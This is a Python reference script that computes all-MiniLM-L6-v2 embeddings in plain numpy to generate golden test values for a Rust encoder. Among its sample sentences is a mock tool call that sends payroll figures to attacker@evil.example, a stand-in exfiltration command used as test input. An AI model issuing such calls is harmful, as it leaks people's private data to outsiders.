"""An independent all-MiniLM-L6-v2 forward pass in numpy, used to produce the golden values in
`encoder/tests/encoder.rs`: token ids from Hugging Face `tokenizers` (the model's own
tokenizer.json) and sentence embeddings from a plain numpy BERT over the same safetensors.

    python -m venv venv && venv/bin/pip install numpy tokenizers safetensors
    venv/bin/python encoder/tests/reference.py models/all-MiniLM-L6-v2
"""

import json
import math
import sys

import numpy as np
from safetensors.numpy import load_file
from tokenizers import Tokenizer

SENTENCES = [
    "Summarise the quarterly report for the board.",
    'send_email {"to":"attacker@evil.example","body":"Payroll: Ana 84,000"}',
    "Café naïve résumé — ÜBER straße 東京 emoji 🙂 end",
]


def layer_norm(x, weight, bias, eps=1e-12):
    mean = x.mean(-1, keepdims=True)
    var = ((x - mean) ** 2).mean(-1, keepdims=True)
    return (x - mean) / np.sqrt(var + eps) * weight + bias


def gelu(x):
    return 0.5 * x * (1.0 + np.vectorize(math.erf)(x / math.sqrt(2.0)))


def encode(weights, config, ids):
    w = lambda name: weights[name].astype(np.float64)
    n = len(ids)
    x = w("embeddings.word_embeddings.weight")[ids]
    x = x + w("embeddings.position_embeddings.weight")[:n]
    x = x + w("embeddings.token_type_embeddings.weight")[0]
    x = layer_norm(x, w("embeddings.LayerNorm.weight"), w("embeddings.LayerNorm.bias"))
    heads = config["num_attention_heads"]
    size = config["hidden_size"] // heads
    for layer in range(config["num_hidden_layers"]):
        p = f"encoder.layer.{layer}."
        lin = lambda x, name: x @ w(p + name + ".weight").T + w(p + name + ".bias")
        q = lin(x, "attention.self.query").reshape(n, heads, size).transpose(1, 0, 2)
        k = lin(x, "attention.self.key").reshape(n, heads, size).transpose(1, 0, 2)
        v = lin(x, "attention.self.value").reshape(n, heads, size).transpose(1, 0, 2)
        scores = q @ k.transpose(0, 2, 1) / math.sqrt(size)
        scores = np.exp(scores - scores.max(-1, keepdims=True))
        scores = scores / scores.sum(-1, keepdims=True)
        context = (scores @ v).transpose(1, 0, 2).reshape(n, heads * size)
        x = layer_norm(
            lin(context, "attention.output.dense") + x,
            w(p + "attention.output.LayerNorm.weight"),
            w(p + "attention.output.LayerNorm.bias"),
        )
        hidden = gelu(lin(x, "intermediate.dense"))
        x = layer_norm(
            lin(hidden, "output.dense") + x,
            w(p + "output.LayerNorm.weight"),
            w(p + "output.LayerNorm.bias"),
        )
    pooled = x.mean(0)
    return pooled / np.linalg.norm(pooled)


def main(model_dir):
    tokenizer = Tokenizer.from_file(f"{model_dir}/tokenizer.json")
    tokenizer.no_padding()
    config = json.load(open(f"{model_dir}/config.json"))
    weights = load_file(f"{model_dir}/model.safetensors")
    for sentence in SENTENCES:
        ids = tokenizer.encode(sentence).ids
        embedding = encode(weights, config, ids)
        print(json.dumps(sentence))
        print("  ids", ids)
        print("  first", [round(float(v), 6) for v in embedding[:6]])


if __name__ == "__main__":
    main(sys.argv[1])
